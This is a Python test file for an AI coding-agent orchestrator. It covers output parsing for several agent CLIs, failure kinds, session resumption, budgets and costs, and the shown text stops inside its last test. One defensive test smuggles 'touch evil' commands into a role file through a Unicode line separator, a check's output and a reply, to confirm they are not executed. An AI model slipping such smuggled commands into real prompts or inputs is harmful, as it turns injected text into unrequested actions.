"""Understanding tools: recorded outputs of real programs, kinds of failure, chains, sessions, parking, budgets, costs.

Where a tool has to misbehave on demand it is a small script behind a tool spec of its own; the real programs are in
`test_agents`.
"""

from __future__ import annotations

import json
import re
import subprocess
import time
from pathlib import Path

import pytest
from conftest import wait_until

from orchestrator.files.documents import parse as parse_yaml
from orchestrator.files.schemas import check
from orchestrator.model import failure
from orchestrator.model.budget import Budget, Budgets, Spent, closed
from orchestrator.model.config import Agent, Model
from orchestrator.tools import failures, output, routing, specs
from orchestrator.tools.specs import ToolSpec, load_tools, queries

RECORDED = Path(__file__).parent / "recorded"
CATALOG = load_tools(None).tools


def said(tool: str, folder: Path, stdout: str = "", stderr: str = "", **files: str) -> output.Said:
    (folder / "stdout.log").write_text(stdout)
    (folder / "stderr.log").write_text(stderr)
    for name, text in files.items():
        path = folder / "tool" / name.replace("__", "/").replace("_json", ".json")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return output.read(CATALOG[tool].parse, str(folder))


@pytest.mark.fast
def test_every_built_in_spec_fits_its_schema_and_its_queries_are_queries():
    assert {
        "claude",
        "codex",
        "opencode",
        "gemini",
        "copilot",
        "qwen",
        "pi",
        "vibe",
        "aider",
        "llm",
    } <= set(CATALOG)
    for spec in CATALOG.values():
        document = parse_yaml(Path(spec.path).read_bytes())
        wrong = [*document.problems, *check("tool", document), *queries(document)]
        said = [f"catalog/{spec.name}.yaml:{it.line}: {it.message} ({it.hint})" for it in wrong]
        assert not wrong, "\n".join(said)
        if spec.parse is not None:
            owed = {
                "verified": spec.verified,
                "version": spec.version,
                "description": spec.description,
                "silence": spec.silence or spec.module,
                "interactive (or module)": spec.interactive or spec.module,
            }
            lacking = [key for key, value in owed.items() if not value]
            assert not lacking, f"catalog/{spec.name}.yaml has parse, and lacks {lacking}"
    assert {kind for kind, _ in failures.common()} <= set(failure.KINDS)


@pytest.mark.parametrize(
    "tool,usage",
    [
        ("claude", (1200, 200, 50)),
        ("codex", (1000, 200, 50)),
        ("opencode", (1200, 200, 50)),
        ("gemini", (1000, 200, 50)),
    ],
)
def test_recorded_successes(tmp_path, tool, usage):
    found = said(tool, tmp_path, (RECORDED / f"{tool}-success.jsonl").read_text())
    assert found.done and not found.failed and found.text == "hello there" and found.session
    assert (found.usage["input"], found.usage["cached"], found.usage["output"]) == usage


def recorded(tool: str, case: str, folder: Path) -> output.Said:
    """What a spec makes of the files that a real run left."""
    end = "txt" if tool == "aider" else "jsonl"
    (folder / "stdout.log").write_text((RECORDED / f"{tool}-{case}.{end}").read_text())
    (folder / "stderr.log").write_text("")
    (folder / "tool/vibe").mkdir(parents=True)
    for name, target in (
        ("usage.json", "usage.json"),
        ("events.jsonl", "aider.jsonl"),
        ("export.json", "vibe/export.json"),
    ):
        if (RECORDED / f"{tool}-{case}.{name}").exists():
            (folder / "tool" / target).write_text((RECORDED / f"{tool}-{case}.{name}").read_text())
    return output.read(CATALOG[tool].parse, str(folder))


@pytest.mark.parametrize(
    "tool,usage,text",
    [
        ("qwen", (2000, 400, 100), "hello there"),
        ("pi", (1000, 200, 50), "hello there"),
        ("copilot", (1000, 200, 50), "hello there"),
        ("vibe", (1000, 200, 50), "hello there"),
        ("aider", (1000, None, 50), ""),
    ],
)
def test_recorded_successes_of_the_others(tmp_path, tool, usage, text):
    found = recorded(
        tool, "success", tmp_path
    )  # qwen asks the model a second time for itself, and counts that
    assert (
        found.done
        and not found.failed
        and found.text == text
        and bool(found.session) == (tool != "aider")
    )
    assert (found.usage["input"], found.usage.get("cached"), found.usage["output"]) == usage


@pytest.mark.parametrize(
    "tool", ["claude", "codex", "opencode", "gemini", "qwen", "pi", "copilot", "vibe"]
)
@pytest.mark.parametrize("case", ["write", "shell"])
def test_recorded_tool_calls_are_counted_over_all_model_calls(tmp_path, tool, case):
    """Two calls of the model, each with 1000 tokens sent, 200 of them cached (beside the 1000 where that is the protocol's way)."""
    found = recorded(tool, case, tmp_path)
    beside = 400 if tool in ("claude", "opencode") else 0
    assert found.done and not found.failed and found.text == "OK." and not found.warnings
    assert (found.usage["input"], found.usage["cached"], found.usage["output"]) == (
        2000 + beside,
        400,
        100,
    )


def test_what_was_not_permitted_is_a_warning(tmp_path):
    found = recorded("vibe", "denied", tmp_path)
    assert found.done and found.warnings == ("permission denied: bash: touch made3.txt",)


def test_what_a_persons_rule_of_opencode_denies_is_a_warning(tmp_path):
    """Its words, seen with 1.18.33; a command that failed by itself is none."""

    def call(status: str, command: str, **more: str) -> str:
        state = {"status": status, "input": {"command": command}, **more}
        return json.dumps({"type": "tool_use", "part": {"tool": "bash", "state": state}}) + "\n"

    denied = "The user has specified a rule which prevents you from using this specific tool call."
    lines = call("error", "touch x", error=denied) + call("completed", "ls", output="denied")
    lines += call("error", "make", error="it was aborted")
    assert said("opencode", tmp_path, lines).warnings == ("permission denied: touch x",)


@pytest.mark.parametrize(
    "tool,error,kind",
    [
        ("pi", "500 fake provider: injected 500", "overloaded"),
        ("copilot", "Failed to get response from the AI model", "overloaded"),
        ("vibe", "Client error '400 Bad Request'", "bad_request"),
        ("aider", "", ""),
    ],
)
def test_recorded_failures(tmp_path, tool, error, kind):
    """pi and aider end with 0 after an API error: what they print is what tells."""
    found = recorded(tool, "error", tmp_path)
    assert (found.failed or not found.done) and found.error.startswith(error)
    if error:
        assert failures.classify(found.error, CATALOG[tool].failures, 0.0).kind == kind


@pytest.mark.parametrize(
    "tool,lines,expected",
    [
        (
            "claude",
            [{"type": "result", "is_error": True, "result": "API Error: 500"}],
            (False, True, "API Error: 500"),
        ),
        (
            "codex",
            [
                {"type": "thread.started", "thread_id": "t"},
                {"type": "turn.failed", "error": {"message": "429 slow down"}},
            ],
            (False, True, "429 slow down"),
        ),
        (
            "opencode",
            [
                {
                    "type": "error",
                    "sessionID": "s",
                    "error": {"name": "APIError", "data": {"message": "overloaded"}},
                }
            ],
            (False, True, "overloaded"),
        ),
        (
            "gemini",
            [{"type": "result", "status": "error", "error": {"message": "[API Error: 401]"}}],
            (False, True, "[API Error: 401]"),
        ),
        (
            "qwen",
            [{"type": "result", "is_error": False, "result": "[API Error: 500 x]"}],
            (True, True, "[API Error: 500 x]"),
        ),
        ("qwen", [{"type": "result", "is_error": False, "result": "fine"}], (True, False, "fine")),
        (
            "pi",
            [
                {
                    "type": "message_end",
                    "message": {"role": "assistant", "stopReason": "error", "errorMessage": "no"},
                },
                {"type": "agent_end"},
            ],
            (False, True, "no"),
        ),
        (
            "copilot",
            [
                {"type": "result", "exitCode": 1},
                {"type": "session.error", "data": {"message": "quota"}},
            ],
            (False, True, "quota"),
        ),
    ],
)
def test_failures_in_the_output(tmp_path, tool, lines, expected):
    found = said(tool, tmp_path, "\n".join(json.dumps(line) for line in lines))
    assert (found.done, found.failed, found.error) == expected


def test_figures_outside_of_stdout(tmp_path):
    found = said(
        "copilot",
        tmp_path,
        json.dumps({"type": "result", "exitCode": 0, "sessionId": "s"}),
        usage_json=json.dumps(
            {
                "modelMetrics": {
                    "a": {"usage": {"inputTokens": 5, "outputTokens": 2, "cacheReadTokens": 1}},
                    "b": {"usage": {"inputTokens": 7, "outputTokens": 1, "cacheReadTokens": 0}},
                }
            }
        ),
    )
    assert (
        found.done
        and found.session == "s"
        and dict(found.usage) == {"input": 12, "cached": 1, "output": 3}
    )
    found = said(
        "vibe",
        tmp_path,
        vibe__export_json=json.dumps(
            {
                "outcome": "finished",
                "session_id": "v",
                "cost_usd": 0.5,
                "usage": {"input_tokens": 3, "output_tokens": 1},
            }
        ),
    )
    assert found.done and not found.failed and found.cost_usd == 0.5
    found = said("llm", tmp_path, "the answer\n", "Token usage: 1,000 input, 50 output\n")
    assert (
        found.done
        and found.text == "the answer"
        and dict(found.usage) == {"input": 1000, "output": 50}
    )
    assert said("llm", tmp_path, "", "Error: no").done is False


@pytest.mark.parametrize(
    "stdout",
    [
        "",
        "\0\xff",
        "{",
        "[1,2]",
        '{"type": 5}',
        '{"type": "result", "usage": "many", "is_error": "no"}',
        '{"type": "result", "usage": {"input_tokens": -5, "output_tokens": 1e400}}',
        "{" * 20000,
        '{"a":' * 5000,
    ],
)
def test_no_output_can_raise(tmp_path, stdout):
    for tool, spec in CATALOG.items():
        if spec.parse is not None:
            found = said(tool, tmp_path, stdout)
            assert not found.done and all(count >= 0 for count in found.usage.values()), tool


NOW = 1_795_000_000.0


@pytest.mark.parametrize(
    "text,kind,reset",
    [
        ('API Error: 429 {"type":"rate_limit_error"}', "rate_limit", None),
        ("Rate limit reached for gpt-5. Please try again in 20s.", "rate_limit", NOW + 20),
        ("429 Too Many Requests, retry after 1m 30s", "rate_limit", NOW + 90),
        ("Claude AI usage limit reached|1795012345", "usage_limit", 1795012345.0),
        (
            "You've hit your usage limit. Try again in 3 hours 42 minutes.",
            "usage_limit",
            NOW + 3 * 3600 + 42 * 60,
        ),
        (
            "weekly limit reached, resets in 2 days 3 hours",
            "usage_limit",
            NOW + 2 * 86400 + 3 * 3600,
        ),
        ("session limit: available after 2026-11-23T12:00:00Z", "usage_limit", 1795435200.0),
        ("Error code: 429 - insufficient_quota", "usage_limit", None),
        ("API Error: 529 Overloaded", "overloaded", None),
        ("503 Service Unavailable", "overloaded", None),
        ("Invalid API key · Please run /login", "auth", None),
        ("401 Unauthorized", "auth", None),
        ("Missing SOME_API_KEY environment variable for some provider", "auth", None),
        ("No conversation found with session ID: x", "session", None),
        ("connect ECONNREFUSED 127.0.0.1:1", "network", None),
        ("400 invalid_request_error: prompt is too long", "bad_request", None),
    ],
)
def test_kinds_of_failure(text, kind, reset):
    found = failures.classify(text, (), NOW)
    assert found is not None and (found.kind, found.reset) == (kind, reset)


def test_what_is_no_known_failure():
    assert failures.classify("2 tests failed, 11 passed", (), NOW) is None
    assert failures.classify("E42", (("rate_limit", "e42"),), NOW).kind == "rate_limit"


def test_prices():
    model = Model("m", input=3.0, cached=0.3, output=15.0)
    assert model.cost({"input": 1000, "cached": 200, "output": 50}) == pytest.approx(
        (800 * 3 + 200 * 0.3 + 50 * 15) / 1e6
    )
    assert Model("m", input=1.0, output=1.0).cost(
        {"input": 10, "cached": 10, "output": 0}
    ) == pytest.approx(1e-5)
    assert Model("m").cost({"input": 1}) is None and model.cost({}) is None


# -- the whole way ----------------------------------------------------------------------------------------------------------

# A small agent: says JSON lines, does what its prompt says, and remembers its sessions in a file.
AGENT = r"""
import json, os, sys, time, uuid
say = lambda **fields: print(json.dumps(fields), flush=True)
name, session = sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else ""
prompt = sys.stdin.read()
resumed = bool(session)
session = session or str(uuid.uuid4())
with open("sessions", "a") as file:
    file.write(f"{name} {os.environ['ORCHESTRATOR_ATTEMPT']} {session} {'resumed' if resumed else 'new'} {prompt.strip().splitlines()[0]}\n")
say(type="init", session=session)
attempt = int(os.environ["ORCHESTRATOR_ATTEMPT"])
plan = json.load(open(f"plan-{name}"))
step = plan[min(sum(line.startswith(name + " ") for line in open("sessions")), len(plan)) - 1]
if step.get("sleep"):
    time.sleep(step["sleep"])
if step.get("error"):
    say(type="failed", message=step["error"])
    sys.exit(1)
say(type="denied", what="rm") if step.get("denied") else None
say(type="done", text=f"{name} did it", input=step.get("input", 100), cached=step.get("cached", 0), output=10, cost=step.get("cost"))
"""
SPEC = """argv: [python3, -I, {agent}, {name}]
resume: ["{{session}}"]
prompt: stdin
parse:
  session: "[0].session"
  done: "[?type=='done']"
  failed: "[?type=='failed']"
  error: "[?type=='failed'] | [-1].message"
  warnings: "[?type=='denied'].join(': ', ['permission denied', what])"
  text: "[?type=='done'] | [-1].text"
  usage: {{input: "[?type=='done'] | [-1].input", cached: "[?type=='done'] | [-1].cached", output: "[?type=='done'] | [-1].output", cost: "[?type=='done'] | [-1].cost"}}
  input_includes_cached: true
  cumulative: {cumulative}
"""


@pytest.fixture
def tools(project):
    """Makes tools ``one``, ``two`` ... that go through a plan: one step for each of their attempts."""
    (project.root.parent / "agent.py").write_text(AGENT)
    (project.work / "tools").mkdir(exist_ok=True)

    def make(cumulative: bool = False, **plans: list[dict]) -> None:
        for name, plan in plans.items():
            (project.root / f"plan-{name}").write_text(json.dumps(plan))
            (project.work / "tools" / f"{name}.yaml").write_text(
                SPEC.format(
                    agent=project.root.parent / "agent.py",
                    name=name,
                    cumulative=str(cumulative).lower(),
                )
            )

    return make


def attempts(project, task_id: str) -> list[tuple]:
    return [
        (item["tool"], item.get("error_class", ""), bool(item.get("resumed")))
        for item in project.result(task_id)["attempts"]
    ]


def test_success_needs_the_done_event(project, tools):
    tools(one=[{"denied": True}])
    (project.work / "tools/silent.yaml").write_text(
        "argv: ['true']\nparse: {done: \"[?type=='done']\"}\n"
    )
    project.drop("good.yaml", "agent: one\nprompt: x\n")
    project.drop("bad.yaml", "agent: silent\nprompt: x\n")
    project.run("watch", "--until-empty", code=1)
    assert project.where("good") == "done" and project.where("bad") == "failed"
    assert (
        project.result("good")["warnings"] == ["permission denied: rm"]
        and project.result("good")["message"] == "one did it"
    )
    assert (
        project.result("bad")["error_class"] == "incomplete"
        and project.result("bad")["exit_code"] == 0
    )


def test_a_retry_resumes_the_session(project, tools):
    tools(one=[{"error": "503 overloaded"}, {}])
    project.drop("a.yaml", "agent: one\nretries: 1\nprompt: do it\n")
    project.run("watch", "--until-empty")
    assert attempts(project, "a") == [("one", "overloaded", False), ("one", "", True)]
    first, second = (project.root / "sessions").read_text().splitlines()
    assert first.split()[2] == second.split()[2] and second.split()[3] == "resumed"
    assert "do it" in first and "Go on with the task" in second and "overloaded" in second
    assert project.result("a")["session"] == first.split()[2]


def test_a_session_that_is_gone_is_not_resumed_again(project, tools):
    tools(one=[{"error": "503"}, {"error": "No conversation found with session ID"}, {}])
    project.drop("a.yaml", "agent: one\nretries: 2\nprompt: do it\n")
    project.run("watch", "--until-empty")
    assert attempts(project, "a") == [
        ("one", "overloaded", False),
        ("one", "session", True),
        ("one", "", False),
    ]


def test_cumulative_figures_are_each_attempts_own(project, tools):
    """The second report counts the whole session: 250 tokens and 5 cents, of which 100 and 2 were the first attempt's."""
    tools(
        cumulative=True,
        one=[{"input": 100, "cost": 0.02}, {"input": 250, "cached": 50, "cost": 0.05}],
    )
    spec = project.work / "tools/one.yaml"
    spec.write_text(
        spec.read_text().replace(
            "done: \"[?type=='done']\"", "done: \"[?type=='done' && input==`250`]\""
        )
    )
    project.drop("a.yaml", "agent: one\nretries: 1\nprompt: do it\n")
    project.run("watch", "--until-empty")
    result = project.result("a")
    assert [(item["usage"]["input"], item["cost_usd"]) for item in result["attempts"]] == [
        (100, 0.02),
        (150, pytest.approx(0.03)),
    ]
    assert (
        result["usage"]["input"] == 250
        and result["cost_usd"] == pytest.approx(0.05)
        and result["cost_source"] == "reported"
    )


def test_fallback_only_where_nothing_was_done(project, tools):
    tools(one=[{"error": "401 unauthorized"}, {"error": "it broke"}], two=[{}])
    project.config("agents: {safe: {tool: [one, two]}}\n")
    project.drop("a.yaml", "agent: safe\nprompt: x\n")
    project.run("watch", "--until-empty")
    assert attempts(project, "a") == [("one", "auth", False), ("two", "", False)]
    assert project.result("a")["tool"] == "two" and "two" in project.result("a")["why"]
    project.drop("b.yaml", "agent: safe\nprompt: x\n")
    project.run("watch", "--until-empty", code=1)
    assert attempts(project, "b") == [("one", "exit", False)]


def test_a_killed_watcher_does_not_forget_who_is_to_act(project, tools, watch):
    tools(one=[{"error": "401"}], two=[{"sleep": 1.5}])
    project.drop("a.yaml", "agent: [one, two]\nprompt: x\n")
    watcher = watch()
    wait_until(
        lambda: len(project.events("attempt_started", "a")) == 2, "the second tool is at work"
    )
    watcher.process.kill()
    watcher.wait()
    watch()
    project.settled("a", "done")
    assert attempts(project, "a") == [("one", "auth", False), ("two", "", False)]
    assert project.result("a")["message"] == "two did it"


def test_a_usage_limit_parks_the_tool_and_others_go_on(project, tools, watch):
    tools(
        one=[{"error": "You've hit your usage limit. Try again in 2 hours 5 minutes."}, {}],
        two=[{}],
    )
    watcher = watch()
    project.drop("a.yaml", "agent: one\nprompt: x\n")
    wait_until((project.work / "held/@one.yaml").exists, "it is parked")
    project.drop("b.yaml", "agent: one\nprompt: x\n")
    project.drop("c.yaml", "agent: two\nprompt: x\n")
    project.settled("c", "done")
    assert project.where("a") == "running" and project.where("b") == "inbox"
    why = project.run("why", "b", code=None).stdout
    assert "one is held until" in why and "release --tool one" in why
    assert "held" in watcher.text() and project.events("tool_parked")
    assert "one is held until" in project.run("status").stdout
    (project.work / "held/@one.yaml").unlink()
    project.settled("a", "done")
    project.settled("b", "done")
    assert attempts(project, "a") == [("one", "usage_limit", False), ("one", "", True)]


def test_a_person_parks_a_tool(project, tools, watch):
    tools(one=[{}])
    (project.work / "held/@one.yaml").write_text("reason: I need it myself\n")
    watch()
    project.drop("a.yaml", "agent: one\nprompt: x\n")
    wait_until(
        lambda: "I need it myself" in project.run("why", "a", code=None).stdout, "why says so"
    )
    assert project.where("a") == "inbox"
    moment = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 1.5))
    project.drop("@one.yaml", f"not_before: {moment}\nreason: a moment\n", "held")
    project.settled("a", "done")
    wait_until(
        lambda: not (project.work / "held/@one.yaml").exists(),
        "the file goes when its time is over",
    )


def test_models_by_policy_aliases_and_estimates(project, tools):
    tools(one=[{"input": 1000, "cached": 500}])
    spec = project.work / "tools/one.yaml"
    spec.write_text(
        spec.read_text()
        .replace("one]\n", "one, --model, '{model}']\n", 1)
        .replace("[python3", "[python3", 1)
    )
    (project.root.parent / "agent.py").write_text(
        "import sys\nopen('argv', 'w').write(' '.join(sys.argv[1:])); del sys.argv[2:]\n" + AGENT
    )
    project.config(
        "models: {small: {input: 1, cached: 0.1, output: 10, aliases: {one: vendor/small-1}}, large: {}}\n"
        "policy: {models: [{labels: [docs], model: large}, {prompt_under: 20, model: small}]}\n"
    )
    project.drop("a.yaml", "agent: one\nprompt: short\n")
    project.run("watch", "--until-empty")
    result = project.result("a")
    assert (project.root / "argv").read_text() == "one --model vendor/small-1"
    assert result["model"] == "small" and "model small (policy)" in result["why"]
    assert result["cost_source"] == "estimated" and result["cost_usd"] == pytest.approx(
        (500 * 1 + 500 * 0.1 + 10 * 10) / 1e6
    )
    project.drop("b.yaml", "agent: one\nlabels: [docs]\nprompt: short\n")
    project.run("watch", "--until-empty")
    assert (
        project.result("b")["model"] == "large"
        and project.result("b")["cost_source"] == "unknown"
        and "cost_usd" not in project.result("b")
    )


def test_silence_ends_an_attempt_and_talking_does_not(project):
    project.config("agents: {sh: {tool: shell, command: [sh], silence: 1s}}\n")
    project.drop("quiet.yaml", "agent: sh\nprompt: echo begun; exec sleep 30\n")
    project.drop(
        "chatty.yaml", "agent: sh\nprompt: for n in 1 2 3 4 5 6; do echo $n; sleep 0.4; done\n"
    )
    project.run("watch", "--until-empty", code=1)
    assert project.where("chatty") == "done"
    result = project.result("quiet")
    assert (result["outcome"], result["error_class"], result["reason"]) == (
        "timed_out",
        "silence",
        "printed nothing for too long",
    )


def test_every_agent_has_both_limits_and_what_a_person_sets_comes_first(project):
    """A built-in agent that hangs is ended even where nothing is configured; the silence of a command tells nothing."""
    (project.work / "tools").mkdir(exist_ok=True)
    (project.work / "tools/mine.yaml").write_text("argv: ['true']\nsilence: 1m\n")

    def silences() -> dict:
        rows = json.loads(project.run("agents", "--json").stdout)["agents"]
        assert all(row["timeout_s"] for row in rows)
        return {row["name"]: row["silence_s"] for row in rows}

    project.config("agents: {make: {tool: shell, command: [make]}}\n")
    found = silences()
    assert {found.pop(name) for name in ("make", "demo")} == {None} and found.pop("mine") == 60
    others = {name: value for name, value in found.items() if value != 900}
    assert not others, f"catalog: an agent says  silence: 15m: {others}"
    assert len(found) > 10
    project.config(
        "defaults: {silence: 10m}\nagents: {r: {tool: claude, silence: 2m}, make: {tool: shell, command: [make]}}\n"
    )
    found = silences()
    assert (found["r"], found["claude"], found["mine"], found["make"]) == (120, 600, 60, 600)


def test_instructions_context_and_permissions_of_an_agent(project):
    (project.work / "tools").mkdir(exist_ok=True)
    (project.work / "tools/echo.yaml").write_text(
        "argv: [sh, -c, 'cat; echo \"$@\"', sh]\npermissions: {default: [--ask], full: [--yes]}\n"
    )
    (project.root / "role.md").write_text("You review.\n")
    project.config(
        "agents: {r: {tool: echo, instructions: role.md, context: [role.md]}, f: {tool: echo, permissions: full}}\n"
    )
    project.drop("a.yaml", "agent: r\nprompt: Look.\n")
    project.drop("b.yaml", "agent: f\nprompt: Look.\n")
    project.run("watch", "--until-empty")
    assert project.log("a") == "You review.\n\nLook.\n\nRead these files first:\n- role.md\n--ask\n"
    assert project.log("b") == "Look.--yes\n"


@pytest.mark.fast
@pytest.mark.parametrize(
    ("argv", "script"),
    [
        ("sh", True),
        ("sh -eu", True),
        ("/bin/bash --norc -euo pipefail -s", True),
        ("python3 -I -", True),
        ("sh -ec cat", False),
        ("sh owl.sh", False),
        ("python3 -m owl", False),
        ("ssh", False),
        ("claude -p", False),
    ],
)
def test_a_shell_without_a_script_runs_its_prompt(argv, script):
    words = tuple(argv.split())
    role = Agent("a", ("shell",), command=words)
    assert routing.scripted(Agent("a", ("t",)), ToolSpec("t", words, "")) is script
    assert routing.scripted(role, ToolSpec("shell", ("{command}",), "", adapter="shell")) is script


def test_what_a_script_is_told_is_no_command(project):
    """Neither what a check printed, nor a reply, nor what a role and a task add to the prompt."""
    (project.root / "role.md").write_text("touch evil\u2028touch evil\n")
    project.config(
        "checks: {look: {command: [sh, -c, 'echo; echo touch evil; test -e good']}}\nagents:\n  sh:"
        " {tool: shell, command: [sh, -eu], edits: true, verify: [look], verify_retries: 1, instructions: role.md}\n"
    )
    project.drop("a.yaml", "agent: sh\ncontext: [role.md]\nprompt: echo x >> made\n")
    project.run("watch", "--until-empty", code=1)
    assert project.result("a")["reason"] == "not proven: look: exit code 1"
    assert "as it left them. Your work is not accepted yet" in project.log("a", 2, "prompt.md")
    said = project.run("reply", "a", "touch good\ntouch evil").stdout
    assert "; shell runs the task again, with your words as comments in it" in said
    project.run("watch", "--until-empty", code=1)
    assert "them. touch good\n# touch evil\n" in project.log("a", 3, "prompt.md")
    assert (project.root / "made").read_text() == "x\n" * 4
    assert not {"evil", "good"} & {path.name for path in project.root.iterdir()}


# -- budgets --------------------------------------------------------------------------------------------------------------


def test_a_day_a_run_and_an_agent_have_budgets(project, tools, watch):
    tools(one=[{"cost": 0.6}], two=[{"cost": 0.1}])
    project.config(
        "limits: {running: 1}\nbudgets: {day: {soft_usd: 0.5, hard_usd: 1.5}, agents: {one: {hard_usd: 1}}}\n"
    )
    watcher = watch()
    for name in ("a", "b", "c"):
        project.drop(f"{name}.yaml", "agent: one\nprompt: x\n")
    project.settled("a", "done")
    project.settled("b", "done")
    wait_until(
        lambda: "the budget of agent one" in project.run("why", "c", code=None).stdout,
        "why tells of the budget",
    )
    assert project.where("c") == "inbox"
    project.drop("d.yaml", "agent: two\nprompt: x\n")
    project.settled("d", "done")
    warned = project.events("budget_exceeded")
    assert (
        len(warned) == 1
        and "its soft limit of $0.50 is reached" in warned[0]["summary"]
        and "budget" in watcher.text()
    )
    watcher.stop()
    watch()  # a restart spends nothing anew: the log is what is counted
    project.drop(
        "e.yaml",
        "tasks: {x: {agent: two, prompt: x}, y: {agent: two, prompt: x, needs: [x]}, z: {agent: two, prompt: x, needs: [y]}}\n"
        "max_cost_usd: 0.15\n",
    )
    project.settled("e.y", "done")
    wait_until(
        lambda: (
            "the budget of run e is spent: $0.20 of $0.15"
            in project.run("why", "e.z", code=None).stdout
        ),
        "why tells of the run's",
    )
    assert project.where("e.z") == "inbox" and project.where("c") == "inbox"


def test_a_task_has_a_budget_for_all_its_attempts(project, tools):
    tools(one=[{"cost": 0.4}] * 5)
    spec = project.work / "tools/one.yaml"
    spec.write_text(
        spec.read_text().replace("done: \"[?type=='done']\"", "done: \"[?type=='never']\"")
    )
    project.config("retry: {delay: 10ms}\n")
    project.drop("a.yaml", "agent: one\nretries: 4\nmax_cost_usd: 0.75\nprompt: x\n")
    project.run("watch", "--until-empty", code=1)
    result = project.result("a")
    assert len(result["attempts"]) == 2 and result["cost_usd"] == pytest.approx(0.8)
    assert "no more attempts: $0.80 of $0.75 are spent" in result["reason"]


def test_a_program_that_keeps_to_a_budget_is_told_what_is_left(project, tools):
    tools(one=[{"cost": 0.4}] * 5)
    spec = project.work / "tools/one.yaml"
    text = spec.read_text().replace("done: \"[?type=='done']\"", "done: \"[?type=='never']\"")
    spec.write_text(re.sub(r"(?m)^(argv: \[.*)\]$", r'\1, --most, "{budget}"]', text))
    assert "{budget}" in spec.read_text()
    project.config("retry: {delay: 10ms}\nbudgets: {task: {hard_usd: 0.75}}\n")
    project.drop("a.yaml", "agent: one\nretries: 4\nprompt: x\n")
    project.run("watch", "--until-empty", code=1)
    given = [json.loads(project.log("a", number, "command.json"))["argv"][-2:] for number in (1, 2)]
    assert given == [["--most", "0.7500"], ["--most", "0.3500"]]
    project.config("retry: {delay: 10ms}\n")  # without a limit there is no such option
    project.drop("b.yaml", "agent: one\nprompt: x\n")
    project.run("watch", "--until-empty", code=1)
    assert "--most" not in json.loads(project.log("b", 1, "command.json"))["argv"]


SPENDER = """
import json, sys, time
for number in range(1000):
    print(json.dumps({"type": "usage", "id": number, "cost": 0.1}), flush=True)
    time.sleep(0.05 if number < 6 else 3600)
"""


@pytest.mark.parametrize(
    "budgets,task,why",
    [
        ("{on_hard: cancel, task: {hard_usd: 0.45}}", "", "the budget of the task is spent: $0."),
        ("{on_hard: cancel}", "max_cost_usd: 0.3\n", "the budget of the task is spent: $0."),
        (
            "{on_hard: cancel, agents: {spender: {hard_usd: 0.5}}}",
            "",
            "the budget of agent spender for",
        ),
        ("{on_hard: cancel, day: {hard_usd: 0.5}}", "", "is spent: $0."),
    ],
)
def test_a_hard_budget_ends_what_runs_if_that_is_wanted(project, watch, budgets, task, why):
    (project.work / "tools").mkdir(exist_ok=True)
    (project.root / "spender.py").write_text(SPENDER)
    (project.work / "tools/spender.yaml").write_text(
        json.dumps(
            {
                "argv": ["{python}", str(project.root / "spender.py")],
                "live": {"key": "id", "cost": "cost"},
                "parse": {"usage": {"input": "sum([].cost) && `1`", "cost": "sum([].cost)"}},
            }
        )
    )
    project.config(f"cancel: {{interrupt_grace: 1s, terminate_grace: 500ms}}\nbudgets: {budgets}\n")
    watch()
    project.drop("a.yaml", f"agent: spender\n{task}prompt: x\n")
    project.settled("a", "cancelled")
    result = project.result("a")
    assert why in result["reason"], result["reason"]
    assert 0.3 <= result["cost_usd"] <= 0.71


def test_a_hard_budget_lets_what_runs_go_on_by_default(project, watch):
    (project.work / "tools").mkdir(exist_ok=True)
    (project.root / "spender.py").write_text(SPENDER.replace("range(1000)", "range(6)"))
    (project.work / "tools/spender.yaml").write_text(
        json.dumps(
            {
                "argv": ["{python}", str(project.root / "spender.py")],
                "live": {"key": "id", "cost": "cost"},
                "parse": {"usage": {"cost": "sum([].cost)"}},
            }
        )
    )
    project.config("budgets: {task: {soft_usd: 0.2, hard_usd: 0.3}}\n")
    watch()
    project.drop("a.yaml", "agent: spender\nprompt: x\n")
    project.settled("a", "done")
    assert project.result("a")["cost_usd"] == pytest.approx(0.6)
    assert (
        "task a has cost $0.60: its soft limit of $0.20 is reached"
        in project.events("budget_exceeded")[0]["summary"]
    )


def test_which_gates_a_spent_budget_closes():
    budgets = Budgets(Budget(1, 2), {"a": Budget(None, 1)}, Budget(hard=5))
    spent = Spent("2026-11-23", 1.5, {"a": 1.0, "b": 0.5}, {"r": 5.0, "s": 1.0})
    assert set(closed(budgets, spent, {"r": None, "s": 0.5, "t": None}, 0)) == {
        ("agent", "a"),
        ("run", "r"),
        ("run", "s"),
    }
    spent.add("b", "", 0.5)
    assert ("", "") in closed(budgets, spent, {}, 0)


def test_the_shell_without_a_command_is_not_tried(project):
    refused = project.run("agents", "check", "shell", "--prompt", "x", code=1).stderr
    assert "the shell tool runs no commands from task files\nhint:" in refused


def test_check_tries_a_tool(project, tools):
    tools(one=[{"denied": True}, {"error": "401"}])
    spec = project.work / "tools/one.yaml"
    spec.write_text(spec.read_text() + "version: [python3, --version]\nverified: '99.9'\n")
    (project.root.parent / "agent.py").write_text(
        "import json, sys\nprompt = sys.stdin.read()\nprint(json.dumps({'type': 'init', 'session': 's'}))\n"
        "print(json.dumps({'type': 'failed', 'message': '401 unauthorized'} if 'fail' in prompt else {'type': 'done', 'text': 'OK', 'input': 5, 'output': 1}))\n"
    )
    done = project.run("tools", "check", "one", "--prompt", "Say OK.")
    assert (
        "succeeded" in done.stdout
        and "said: OK" in done.stdout
        and "5 input" in done.stdout
        and "verified with 99.9" in done.stdout
    )
    done = project.run("tools", "check", "one", "--prompt", "fail", code=1)
    assert "401 unauthorized" in done.stdout and "(auth)" in done.stdout
    assert "no program" in project.run("tools", "check", "vibe", code=1).stdout
    assert "need: orchestrator agents check" in project.run("tools", "--prompt", "x", code=2).stderr
    assert not project.events("attempt_started")


def test_what_changed_and_how_to_go_on_by_hand(project, tools):
    def git(*words: str) -> None:
        subprocess.run(
            [
                "git",
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.org",
                "-C",
                str(project.root),
                *words,
            ],
            check=True,
            capture_output=True,
        )

    tools(one=[{}])
    spec = project.work / "tools/one.yaml"
    spec.write_text(spec.read_text() + "resume_by_hand: [one, --go-on, '{session}']\n")
    (project.root.parent / "agent.py").write_text(
        "import json, subprocess\nopen('edited.txt', 'a').write('more')\nopen('new file.txt', 'w').write('x')\nopen('dirty.txt', 'a').write('again')\n"
        "open('committed.txt', 'w').write('x')\nsubprocess.run('git add committed.txt && git -c user.name=t -c user.email=t@e commit -qm agent', shell=True, check=True)\n"
